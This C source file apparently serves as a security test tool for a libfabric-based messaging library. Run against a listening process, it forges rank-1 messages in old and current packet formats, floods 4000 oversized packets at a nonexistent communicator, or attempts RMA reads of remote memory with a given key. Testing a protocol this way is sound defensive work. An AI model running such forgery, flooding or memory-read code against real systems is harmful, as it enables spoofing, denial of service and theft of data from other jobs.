/* stranger ADDRESS PORT JOB VERSION [KEY]: attacks the process that listens at this port with its own means,
 * libfabric's tcp;ofi_rxm (or STRANGER_PROVIDER). It knows the number of the job and how packets look, in version 3 or (0) in
 * this library's, but nothing that only the job's processes know. It forges messages of rank 1, and the same many times
 * for a communicator that does not exist; or it reads memory with this key. Says "sent COUNT", or "read" if it could. */
#include "net/ofi/wire.h"

#include <arpa/inet.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

enum {
    FLOOD = 4000, /* packets for communicators that do not exist */
    PAYLOAD = 32 * 1024,
    LOOT = 4096,
    PATIENCE_MS = 300
};

/* As version 3 of the packets had it, without a proof; they have been struct wire since. */
struct head3 {
    uint8_t version, kind;
    uint16_t unused;
    uint32_t rank;
    uint64_t job;
    struct message message;
};

static struct fid_domain *domain;
static struct fid_av *av;
static struct fid_cq *cq;
static struct fid_ep *ep;
static fi_addr_t victim;

static void need(int code, const char *what)
{
    if (code >= 0)
        return;
    printf("stranger: %s: %s\n", what, fi_strerror(-code));
    exit(1);
}

static void open_endpoint(const char *address, const char *port)
{
    struct fi_info *need_info = fi_allocinfo(), *info = NULL;
    struct fi_cq_attr cq_attr = {.format = FI_CQ_FORMAT_DATA};
    struct fi_av_attr av_attr = {.type = FI_AV_UNSPEC};
    struct sockaddr_in there = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    const char *provider = getenv("STRANGER_PROVIDER");
    struct fid_fabric *fabric;

    inet_pton(AF_INET, address, &there.sin_addr);
    need_info->caps = FI_MSG | FI_RMA;
    need_info->mode = FI_CONTEXT | FI_CONTEXT2;
    need_info->ep_attr->type = FI_EP_RDM;
    need_info->fabric_attr->prov_name = strdup(provider ? provider : "tcp;ofi_rxm");
    need_info->addr_format = FI_SOCKADDR_IN;
    need(fi_getinfo(FI_VERSION(1, 17), address, port, 0, need_info, &info), "getinfo");
    need(fi_fabric(info->fabric_attr, &fabric, NULL), "fabric");
    need(fi_domain(fabric, info, &domain, NULL), "domain");
    need(fi_av_open(domain, &av_attr, &av, NULL), "av");
    need(fi_cq_open(domain, &cq_attr, &cq, NULL), "cq");
    need(fi_endpoint(domain, info, &ep, NULL), "endpoint");
    need(fi_ep_bind(ep, &av->fid, 0), "bind");
    need(fi_ep_bind(ep, &cq->fid, FI_TRANSMIT | FI_RECV), "bind");
    need(fi_enable(ep), "enable");
    need(fi_av_insert(av, &there, 1, &victim, 0, NULL) == 1 ? 0 : -FI_EOTHER, "insert");
}

static long now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* Whether the operation has been begun and has succeeded, within the patience. */
static bool end_well(ssize_t (*begin)(const void *), const void *what)
{
    struct fi_cq_data_entry done;
    struct fi_cq_err_entry failed = {0};
    long end = now_ms() + PATIENCE_MS;
    bool begun = false;

    while (now_ms() < end) {
        ssize_t count;

        if (!begun) {
            ssize_t code = begin(what);

            if (code != 0 && code != -FI_EAGAIN) {
                printf("refused: %s\n", fi_strerror((int)-code));
                return false;
            }
            begun = code == 0;
        }
        count = fi_cq_read(cq, &done, 1);
        if (count == 1 && begun)
            return true;
        if (count == -FI_EAVAIL && fi_cq_readerr(cq, &failed, 0) == 1) {
            printf("failed: %s\n", fi_strerror(failed.err));
            return false;
        }
    }
    return false;
}

struct packet {
    size_t size;
    unsigned char bytes[sizeof(struct wire) + PAYLOAD];
};

static struct fi_context2 context;

static ssize_t begin_send(const void *what)
{
    const struct packet *p = what;

    return fi_send(ep, p->bytes, p->size, NULL, victim, &context);
}

static void make(struct packet *p, int version, uint64_t job, const struct message *message)
{
    struct head3 three = {.version = 3, .kind = 1, .rank = 1, .job = job, .message = *message};
    struct wire now = {.version = WIRE_VERSION, .kind = 1, .rank = 1, .job = job, .message = *message};
    size_t head = version == 3 ? sizeof three : sizeof now;
    static const int number = 666;

    memset(p, 0, sizeof *p);
    memcpy(p->bytes, version == 3 ? (void *)&three : (void *)&now, head);
    memcpy(p->bytes + head, &number, sizeof number);
    p->size = head + message->length;
}

static int forge(uint64_t job, int version)
{
    static struct packet packet;
    int sent = 0;

    make(&packet, version, job,
         &(struct message){.length = 4, .kind = 1, .context = 1, .source = 1, .tag = 5});
    sent += end_well(begin_send, &packet);
    make(&packet, version, job,
         &(struct message){.length = PAYLOAD, .kind = 1, .context = 0x4444, .source = 1, .tag = 5});
    for (int i = 0; i < FLOOD && end_well(begin_send, &packet); i++)
        sent++;
    return sent;
}

static char loot[LOOT];

static ssize_t begin_read(const void *what)
{
    return fi_read(ep, loot, sizeof loot, NULL, victim, 0, *(const uint64_t *)what, &context);
}

int main(int argc, char **argv)
{
    int version;
    char size[16];

    if (argc < 5)
        return 2;
    version = atoi(argv[4]);
    setvbuf(stdout, NULL, _IONBF, 0);
    snprintf(size, sizeof size, "%zu", PAYLOAD + (version == 3 ? sizeof(struct head3) : sizeof(struct wire)));
    setenv("FI_OFI_RXM_BUFFER_SIZE", size, 1); /* as the library has it, or the endpoints do not talk */
    open_endpoint(argv[1], argv[2]);
    if (argc == 5) {
        printf("sent %d\n", forge(strtoull(argv[3], NULL, 10), version));
    } else {
        uint64_t key = strtoull(argv[5], NULL, 10);

        if (end_well(begin_read, &key))
            printf("read what key %s opens, which begins with %02x\n", argv[5], (unsigned char)loot[0]);
    }
    return 0;
}
